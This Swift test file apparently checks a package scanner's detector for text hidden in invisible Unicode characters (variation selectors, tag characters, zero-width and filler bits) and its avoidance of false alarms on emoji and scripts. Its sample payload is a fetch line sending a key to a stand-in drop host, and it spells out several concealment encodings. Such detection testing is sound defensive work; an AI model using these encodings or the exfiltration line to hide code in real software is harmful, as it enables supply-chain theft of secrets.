// SPDX-License-Identifier: Apache-2.0

import Analysis
import NPMModel
import Testing

@Suite struct HiddenTextTests {
    private static let said = "fetch(\"https://drop.example/\" + key)"

    private static func bits(_ text: String, _ zero: String, _ one: String, width: Int = 8, mark: String = "") -> String {
        text.utf8.map { byte in
            (0..<width).map { UInt16(byte) & (UInt16(1) << UInt16(width - 1 - $0)) == 0 ? zero : one }.joined() + mark
        }.joined()
    }

    static let forms: [(name: String, hidden: String, encoding: HiddenText.Encoding)] = [
        ("selectors side by side", HiddenText.selectors(said.utf8), .variationSelectors),
        ("selectors on letters", said.utf8.map { "x" + HiddenText.selectors([$0]) }.joined(), .variationSelectors),
        ("selectors on emoji", said.utf8.map { "😀" + HiddenText.selectors([$0]) }.joined(), .variationSelectors),
        ("half bytes", HiddenText.selectors(said.utf8.flatMap { [$0 >> 4, $0 & 15] }), .selectorNibbles),
        ("half bytes, low first", HiddenText.selectors(said.utf8.flatMap { [$0 & 15, $0 >> 4] }), .selectorNibbles),
        ("tags", said.utf8.compactMap { Unicode.Scalar(0xE0000 + UInt32($0)).map { String(Character($0)) } }.joined(), .tags),
        ("fillers", bits(said, "\u{FFA0}", "\u{3164}"), .fillerBits),
        ("fillers the other way round", bits(said, "\u{3164}", "\u{FFA0}"), .fillerBits),
        ("seven bits", bits(said, "\u{200B}", "\u{200C}", width: 7), .zeroWidthBits),
        ("sixteen bits", bits(said, "\u{200C}", "\u{200D}", width: 16), .zeroWidthBits),
        ("bits with marks", bits(said, "\u{200B}", "\u{200C}", mark: "\u{FEFF}"), .zeroWidthBits),
        ("bits of invisible operators", bits(said, "\u{2062}", "\u{2063}"), .zeroWidthBits),
    ]

    @Test("Hidden text is read whatever it is written in", arguments: forms.indices)
    func decodes(_ index: Int) throws {
        let form = Self.forms[index]
        let before = "const a = `ä"
        let pieces = HiddenText.decode(ArraySlice((before + form.hidden + "`; run(a)").utf8))
        try #require(pieces.count == 1, "\(form.name)")
        #expect(pieces[0].encoding == form.encoding)
        #expect(pieces[0].text == Self.said, "\(form.name)")
        #expect(pieces[0].isReadable)
        #expect(pieces[0].range.lowerBound >= before.utf8.count && pieces[0].range.upperBound <= (before + form.hidden).utf8.count)
    }

    @Test(
        "What languages and pictures need is no hidden text",
        arguments: [
            "❤️ ✔️ ☀️ 👩‍💻👩‍👩‍👧‍👦", String(repeating: "☀️", count: 200), "می‌خواهم نمی‌خواهم", "क्‍ष क्‍ष क्‍ष", "ᠪᠣᠯ\u{180E}ᠠ",
            String(repeating: "葛\u{E0100}", count: 50), "\u{FEFF}module.exports = 1",
            "🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}",
            String(repeating: "🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}", count: 9),
            String(repeating: "a\u{200B}", count: 100), String(repeating: "\u{200B}", count: 100),
        ])
    func staysSilent(_ text: String) { #expect(HiddenText.decode(ArraySlice(text.utf8)).isEmpty) }

    @Test("Cut characters and bytes that are no text at all end nothing early")
    func damaged() {
        let hidden = Array(HiddenText.selectors(Self.said.utf8).utf8)
        for cut in 0..<min(hidden.count, 40) { _ = HiddenText.decode(hidden.dropFirst(cut).dropLast(cut / 2)) }
        let noise: [UInt8] = (0..<5000).map { UInt8(truncatingIfNeeded: ($0 &* 2_654_435_761) >> 7) }
        #expect(HiddenText.decode((noise + hidden)[...]).contains { $0.text == Self.said })
    }

    @Test("A file with more pieces than are kept says so")
    func cap() {
        let piece = HiddenText.selectors(Array("hidden".utf8)) + String(repeating: ".", count: 20)
        let scan = HiddenText.scan(ArraySlice(String(repeating: piece, count: HiddenText.mostPieces + 1).utf8))
        #expect(scan.pieces.count == HiddenText.mostPieces && scan.isCut)
    }

    @Test("The finding shows what was hidden, in the clear and cleaned")
    func evidence() throws {
        let release = ReleaseUnderReview.sample(["index.js": "const a = `\(HiddenText.selectors("\u{1B}[2J run(\"it\") at once".utf8))`"])
        let finding = try #require(Judge.judge(release).findings.first { $0.id == "hidden-characters" })
        #expect(finding.evidence.contains { $0.excerpt.contains("run(\"it\") at once") && !$0.excerpt.contains("\u{1B}") })
    }
}
